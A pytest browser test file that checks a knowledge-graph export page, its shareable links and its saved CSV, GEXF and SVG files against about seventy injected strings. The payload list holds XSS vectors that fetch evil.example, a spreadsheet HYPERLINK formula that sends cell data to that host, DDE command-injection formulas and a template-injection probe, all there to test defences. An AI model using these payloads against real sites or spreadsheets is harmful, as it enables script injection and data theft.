"""More than fifty texts that want to run: in names, ids, titles, sources and addresses. None does."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from urllib.parse import quote
from xml.etree import ElementTree

import pytest

from kg.export.model import Fact, PageLink, PageModel, PageNode, PageSource, Partner
from kg.export.page import PageOptions, write_page
from kg.export.sparql import PageGraph
from tests.browser.conftest import Opener, Watched
from tests.export.story import story

pytestmark = pytest.mark.browser

RUN = "window.pwned=1;alert(1);fetch('https://evil.example/')"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</ScRiPt ><ScRiPt>{RUN}</sCrIpT>",
    f"<!--<script>{RUN}</script>-->",
    "<!--<script>",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</select><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror='{RUN}'>",
    f"<img src=x onerror={RUN}>",
    f'<IMG SRC=x ONERROR="{RUN}">',
    f'<img/src=x/onerror="{RUN}">',
    "<img src='https://evil.example/i.png'>",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>">',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe onload="{RUN}"></iframe>',
    f'<body onload="{RUN}">',
    f'<details open ontoggle="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<audio src=x onerror="{RUN}">',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<style>@import 'https://evil.example/s.css';</style>",
    "<style>body{background:url(https://evil.example/b.png)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f'<a href="javascript:{RUN}">href</a>',
    f'<math><mtext></p><img src onerror="{RUN}">',
    f'<template><img src=x onerror="{RUN}"></template>',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f"${{{RUN}}}",
    f"`-{RUN}-`",
    f'\\";{RUN}//',
    f"\\');{RUN}//",
    f"\u2028{RUN}\u2029",
    "{{ 7 * 7 }}{% for x in [1] %}{{ self.__init__ }}{% endfor %}",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    'http://evil.example/"onclick="alert(1)',
    "__proto__",
    "constructor",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    f"</script\t\n/><script\n>{RUN}</script\f>",
    f"]]>\"'--!><svg/onload={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\ufeff\u0000<script>{RUN}</script>",
    f"\u202e<img src=x onerror={RUN}>\u202c",
    "<svg><use href='https://evil.example/s.svg#x'/></svg>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"vbscript:{RUN}",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


DRAWN = {"svg", "rect", "text", "path", "polygon", "circle"}
EXCHANGED = {
    *(
        "gexf",
        "meta",
        "creator",
        "description",
        "graph",
        "attributes",
        "attribute",
        "nodes",
        "node",
        "attvalues",
    ),
    *("attvalue", "edges", "edge"),
}
FOREIGN = "iframe, object, embed, base, form, img, video, audio, link[rel=stylesheet], body script:not([id])"


def poisoned() -> PageModel:
    """A page on which every text is one that wants to run."""
    count = len(PAYLOADS)
    nodes = tuple(
        PageNode(
            f"https://x.example/{at}/{text}",
            text,
            ("Firm", text)[at % 2],
            (text,),
            (text,),
            (text,),
            country=("PL", text)[at % 2],
            region=text,
            sectors=(text,),
            programmes=(text,),
            size=at / count,
            community=at % 5,
            facts=(Fact("webPage", text, text, text), Fact(text, text, text, "2020")),
            start="2014",
        )
        for at, text in enumerate(PAYLOADS)
    )
    links = tuple(
        PageLink(
            nodes[at].id, nodes[(at + 1) % count].id, text, text, at % 2 == 0, "2015", None, 1.0, (text,)
        )
        for at, text in enumerate(PAYLOADS)
    )
    advice = {
        nodes[0].id: tuple(Partner(node.id, node.label, (node.label,), (nodes[1].id,)) for node in nodes[2:])
    }
    sources = tuple(PageSource(text, text, text, text, text) for text in PAYLOADS)
    terms = {text: {"en": text, "lt": text, "pl": text} for text in PAYLOADS}
    return PageModel(
        PAYLOADS[1],
        date(2020, 1, 1),
        nodes,
        links,
        PAYLOADS,
        sources,
        advice,
        terms,
        dict(enumerate(PAYLOADS[:5])),
    )


def unharmed(watched: Watched) -> None:
    """Nothing of a payload ran or was made into an element."""
    page = watched.page
    assert page.evaluate("window.pwned") is None
    assert page.evaluate(f"document.querySelectorAll('{FOREIGN}').length") == 0
    assert page.evaluate("Array.from(document.links).every(a => /^https?:|#query$/.test(a.href))")
    assert watched.quiet()


@pytest.mark.parametrize("large", [False, True])
def test_no_payload_runs(opened: Opener, large: bool) -> None:
    assert len(PAYLOADS) >= 50
    graph = PageGraph(b"", tuple((text, text) for text in PAYLOADS))
    watched = opened(poisoned(), PageOptions(overview_above=10 if large else 2_000, graph=graph))
    page = watched.page
    before = set(page.evaluate("Object.keys(window)"))

    for at in range(len(PAYLOADS)):
        page.evaluate("at => { document.querySelector('#query').value = clusterbridge.names()[at]; }", at)
        page.dispatch_event("#query", "input")
        page.evaluate("at => clusterbridge.select(at)", at)
    page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
    for view in ("map", "table", "ask", "network"):
        if page.is_visible(f"#view-{view}"):
            page.click(f"#view-{view}")
    page.select_option("#language", "pl")
    for button in ("#save-svg", "#save-csv", "#save-gexf", "#save-png", "#save-page"):
        with page.expect_download():
            page.click(button)
    page.click("#share")
    page.wait_for_timeout(300)

    assert set(page.evaluate("Object.keys(window)")) - before == set()
    unharmed(watched)


def test_a_saved_copy_is_as_safe_as_the_page(
    opened: Opener, tmp_path_factory: pytest.TempPathFactory
) -> None:
    page = opened(poisoned()).page
    page.click("#keep summary")
    with page.expect_download() as download:
        page.click("#save-page")
    copy = tmp_path_factory.mktemp("copy") / "copy.html"
    download.value.save_as(copy)

    unharmed(opened(copy))


@pytest.mark.parametrize("payload", PAYLOADS[::4])
def test_a_link_to_a_view_cannot_run_anything(opened: Opener, payload: str) -> None:
    text = quote(payload)
    keys = "vqkcsptfobl"
    everywhere = "&".join([*(f"{key}={text}" for key in keys), *(f"{key}={text}" for key in "xygnah" * 2)])

    watched = opened(poisoned(), hash_="#" + everywhere)
    watched.page.evaluate("document.querySelector('#share').click()")
    watched.page.fill("#given-code", "#" + everywhere)
    watched.page.click("#open-code")

    unharmed(watched)


def test_an_earlier_page_brings_nothing_in(opened: Opener, tmp_path: Path) -> None:
    write_page(poisoned(), tmp_path / "earlier.html")

    watched = opened(story(), PageOptions(previous=tmp_path / "earlier.html"))

    assert "No longer there" in watched.page.inner_text("#changes")
    unharmed(watched)


def test_saved_lists_and_drawings_hold_texts_only(opened: Opener) -> None:
    page = opened(poisoned()).page
    page.click("#keep summary")
    saved = {}
    for button in ("#save-csv", "#save-gexf", "#save-svg"):
        with page.expect_download() as download:
            page.click(button)
        saved[button] = Path(download.value.path()).read_bytes().decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(saved["#save-csv"], newline="")))
    assert len(rows) == len(PAYLOADS) + 1
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for markup in (saved["#save-gexf"], saved["#save-svg"]):
        tree = ElementTree.fromstring(markup)  # noqa: S314 - our own file
        names = {element.tag.rpartition("}")[2] for element in tree.iter()}
        assert names <= DRAWN | EXCHANGED
        assert not [key for element in tree.iter() for key in element.attrib if key.startswith("on")]
